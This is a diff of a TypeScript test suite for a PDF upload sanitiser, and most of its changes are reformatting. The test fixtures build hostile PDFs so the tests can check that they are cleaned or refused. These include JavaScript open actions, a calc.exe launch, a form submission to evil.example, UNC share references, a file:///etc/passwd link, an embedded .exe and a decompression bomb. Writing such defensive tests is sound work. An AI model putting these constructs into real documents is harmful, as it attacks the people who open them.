@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process'
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
-import { degrees, PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString } from 'pdf-lib'
+import { degrees, PDFArray, type PDFDict, PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString } from 'pdf-lib'
 import sharp from 'sharp'
 import { describe, expect, it } from 'vitest'
 import { pageText, preparePdf, renderPage } from './documents.ts'
@@ -16,7 +16,8 @@ async function pdfOf(build: Build, pages = 1): Promise<Uint8Array> {
   return pdf.save({ useObjectStreams: false })
 }
 
-const action = (pdf: PDFDocument, entries: Record<string, unknown>): PDFDict => pdf.context.obj(entries as never) as unknown as PDFDict
+const action = (pdf: PDFDocument, entries: Record<string, unknown>): PDFDict =>
+  pdf.context.obj(entries as never) as unknown as PDFDict
 const latin = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1')
 
 function annotate(pdf: PDFDocument, entries: Record<string, unknown>): void {
@@ -47,28 +48,86 @@ describe('preparing an upload', () => {
       pdf.getPage(4).setRotation(degrees(270))
     }, 5)
     const { pages } = await preparePdf(original)
-    expect(pages).toEqual([[300, 400], [100, 120], [800, 600], [222, 333], [333, 222]].map(([width, height]) => ({ width, height })))
+    expect(pages).toEqual(
+      [
+        [300, 400],
+        [100, 120],
+        [800, 600],
+        [222, 333],
+        [333, 222],
+      ].map(([width, height]) => ({ width, height })),
+    )
   })
 
   const actions: [string, Build][] = [
-    ['open_action', (pdf) => pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))],
-    ['javascript', (pdf) => pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ JavaScript: { Names: [PDFString.of('a'), { S: 'JavaScript', JS: PDFString.of('evil()') }] } } as never))],
-    ['page_actions', (pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('evil()') } } as never))],
+    [
+      'open_action',
+      (pdf) =>
+        pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
+    ],
+    [
+      'javascript',
+      (pdf) =>
+        pdf.catalog.set(
+          PDFName.of('Names'),
+          pdf.context.obj({
+            JavaScript: { Names: [PDFString.of('a'), { S: 'JavaScript', JS: PDFString.of('evil()') }] },
+          } as never),
+        ),
+    ],
+    [
+      'page_actions',
+      (pdf) =>
+        pdf
+          .getPage(0)
+          .node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('evil()') } } as never)),
+    ],
     ['launch', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('calc.exe') } })],
-    ['submit_form', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'SubmitForm', F: PDFString.of('http://evil.example') } })],
+    [
+      'submit_form',
+      (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'SubmitForm', F: PDFString.of('http://evil.example') } }),
+    ],
     ['import_data', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'ImportData', F: PDFString.of('x.fdf') } })],
-    ['remote_goto', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'GoToR', F: PDFString.of('\\\\evil\\share'), D: [0, 'Fit'] } })],
-    ['remote_goto', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'GoToE', F: PDFString.of('a.pdf'), T: { R: 'C' } } })],
-    ['unsafe_link', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('java\tscript:evil()') } })],
-    ['unsafe_link', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('file:///etc/passwd') } })],
-    ['javascript', (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'GoTo', D: [0, 'Fit'], Next: { S: 'JavaScript', JS: PDFString.of('evil()') } } })],
+    [
+      'remote_goto',
+      (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'GoToR', F: PDFString.of('\\\\evil\\share'), D: [0, 'Fit'] } }),
+    ],
+    [
+      'remote_goto',
+      (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'GoToE', F: PDFString.of('a.pdf'), T: { R: 'C' } } }),
+    ],
+    [
+      'unsafe_link',
+      (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('java\tscript:evil()') } }),
+    ],
+    [
+      'unsafe_link',
+      (pdf) => annotate(pdf, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('file:///etc/passwd') } }),
+    ],
+    [
+      'javascript',
+      (pdf) =>
+        annotate(pdf, {
+          Subtype: 'Link',
+          A: { S: 'GoTo', D: [0, 'Fit'], Next: { S: 'JavaScript', JS: PDFString.of('evil()') } },
+        }),
+    ],
     ['embedded_files', (pdf) => pdf.attach(Buffer.from('payload'), 'x.exe')],
     ['embedded_files', (pdf) => annotate(pdf, { Subtype: 'FileAttachment' })],
     ['rich_media', (pdf) => annotate(pdf, { Subtype: 'RichMedia' })],
     ['three_d', (pdf) => annotate(pdf, { Subtype: '3D' })],
     ['movie', (pdf) => annotate(pdf, { Subtype: 'Movie' })],
     ['sound', (pdf) => annotate(pdf, { Subtype: 'Sound' })],
-    ['external_stream', (pdf) => pdf.getPage(0).node.set(PDFName.of('Thumb'), pdf.context.register(pdf.context.stream('x', { F: PDFString.of('\\\\evil\\share') } as never)))],
+    [
+      'external_stream',
+      (pdf) =>
+        pdf
+          .getPage(0)
+          .node.set(
+            PDFName.of('Thumb'),
+            pdf.context.register(pdf.context.stream('x', { F: PDFString.of('\\\\evil\\share') } as never)),
+          ),
+    ],
     ['usage_rights', (pdf) => pdf.catalog.set(PDFName.of('Perms'), pdf.context.obj({ UR3: {} } as never))],
   ]
   it.each(actions)('takes out active content: %s', async (name, build) => {
@@ -114,7 +173,9 @@ describe('preparing an upload', () => {
     const prepared = await PDFDocument.load(bytes)
     expect(prepared.catalog.has(PDFName.of('AcroForm'))).toBe(false)
     expect(await pageText({ key: 'flattened', load: async () => bytes, page: 0 })).toContain('Ana Lima')
-    const [before, after] = await Promise.all([original, bytes].map((file, i) => renderPage({ key: `form ${i}`, load: async () => file, page: 0, dpi: 72 })))
+    const [before, after] = await Promise.all(
+      [original, bytes].map((file, i) => renderPage({ key: `form ${i}`, load: async () => file, page: 0, dpi: 72 })),
+    )
     const [a, b] = await Promise.all([before, after].map((image) => sharp(image?.webp).raw().toBuffer()))
     expect(a?.filter((value, i) => Math.abs(value - (b?.[i] ?? 0)) > 60).length).toBeLessThan(40)
   })
@@ -136,14 +197,22 @@ describe('preparing an upload', () => {
     await expect(preparePdf(Buffer.from('hello, I am not a PDF'))).rejects.toEqual(refusal('pdf_not_a_pdf'))
     await expect(preparePdf(Buffer.from('%PDF-1.7\nnothing more'))).rejects.toEqual(refusal('pdf_damaged'))
     await expect(preparePdf(await pdfOf(() => undefined, 501))).rejects.toEqual(refusal('pdf_too_many_pages'))
-    await expect(preparePdf(await pdfOf((pdf) => pdf.getPage(1).setSize(20_000, 100), 2))).rejects.toMatchObject({ code: 'pdf_page_size', details: { page: 2 } })
-    await expect(preparePdf(await pdfOf((pdf) => pdf.getPage(0).setSize(2, 100)))).rejects.toMatchObject({ code: 'pdf_page_size', details: { page: 1 } })
+    await expect(preparePdf(await pdfOf((pdf) => pdf.getPage(1).setSize(20_000, 100), 2))).rejects.toMatchObject({
+      code: 'pdf_page_size',
+      details: { page: 2 },
+    })
+    await expect(preparePdf(await pdfOf((pdf) => pdf.getPage(0).setSize(2, 100)))).rejects.toMatchObject({
+      code: 'pdf_page_size',
+      details: { page: 1 },
+    })
   })
 
   it('refuses what expands or nests too far', async () => {
     const bomb = await pdfOf((pdf) => {
       const stream = pdf.context.flateStream(new Uint8Array(300 * 1024 * 1024))
-      pdf.getPage(0).node.set(PDFName.of('PieceInfo'), pdf.context.obj({ x: { Private: pdf.context.register(stream) } } as never))
+      pdf
+        .getPage(0)
+        .node.set(PDFName.of('PieceInfo'), pdf.context.obj({ x: { Private: pdf.context.register(stream) } } as never))
     })
     await expect(preparePdf(bomb)).rejects.toMatchObject({ code: 'pdf_too_complex' })
     const nested = await pdfOf((pdf) => {
@@ -161,7 +230,9 @@ describe('preparing an upload', () => {
   it('asks before it takes a signed document, and then keeps every byte', async () => {
     const signed = await pdfOf((pdf) => {
       const value = action(pdf, { Type: 'Sig', ByteRange: [0, 1, 2, 3], Contents: PDFHexString.of('00') })
-      const field = pdf.context.register(action(pdf, { FT: 'Sig', T: PDFString.of('s'), V: pdf.context.register(value) }))
+      const field = pdf.context.register(
+        action(pdf, { FT: 'Sig', T: PDFString.of('s'), V: pdf.context.register(value) }),
+      )
       pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ Fields: [field], SigFlags: 3 } as never))
     })
     await expect(preparePdf(signed)).rejects.toMatchObject({ code: 'pdf_signed' })
@@ -174,7 +245,11 @@ describe('preparing an upload', () => {
     const [plain, open, locked] = ['plain.pdf', 'open.pdf', 'locked.pdf'].map((file) => path.join(folder, file))
     writeFileSync(plain ?? '', await pdfOf(() => undefined))
     try {
-      for (const [user, file] of [['', open], ['secret', locked]]) execFileSync('qpdf', ['--encrypt', user ?? '', 'owner', '256', '--', plain ?? '', file ?? ''])
+      for (const [user, file] of [
+        ['', open],
+        ['secret', locked],
+      ])
+        execFileSync('qpdf', ['--encrypt', user ?? '', 'owner', '256', '--', plain ?? '', file ?? ''])
     } catch {
       skip()
     }
@@ -182,7 +257,9 @@ describe('preparing an upload', () => {
     expect(removed).toEqual(['encryption'])
     expect(latin(bytes)).not.toContain('/Encrypt')
     expect(await pageText({ key: 'decrypted', load: async () => bytes, page: 0 })).toContain('page 1')
-    await expect(preparePdf(new Uint8Array(readFileSync(locked ?? '')))).rejects.toMatchObject({ code: 'pdf_encrypted' })
+    await expect(preparePdf(new Uint8Array(readFileSync(locked ?? '')))).rejects.toMatchObject({
+      code: 'pdf_encrypted',
+    })
     rmSync(folder, { recursive: true })
   })
 })
@@ -213,9 +290,20 @@ describe('pages of a document', () => {
 
   it('serve many questions at once, and fail for a page that is not there', async () => {
     const bytes = await pdfOf(() => undefined, 2)
-    const many = Array.from({ length: 12 }, (_, i) => pageText({ key: `many ${i % 5}`, load: async () => bytes, page: i % 2 }))
+    const many = Array.from({ length: 12 }, (_, i) =>
+      pageText({ key: `many ${i % 5}`, load: async () => bytes, page: i % 2 }),
+    )
     expect((await Promise.all(many)).map((text) => text.trim())).toEqual(many.map((_, i) => `page ${(i % 2) + 1}`))
     await expect(pageText({ key: 'many 0', load: async () => bytes, page: 7 })).rejects.toThrow('page 7')
-    await expect(renderPage({ key: 'gone', load: async () => { throw new Error('no such blob') }, page: 0, dpi: 72 })).rejects.toThrow('no such blob')
+    await expect(
+      renderPage({
+        key: 'gone',
+        load: async () => {
+          throw new Error('no such blob')
+        },
+        page: 0,
+        dpi: 72,
+      }),
+    ).rejects.toThrow('no such blob')
   })
 })
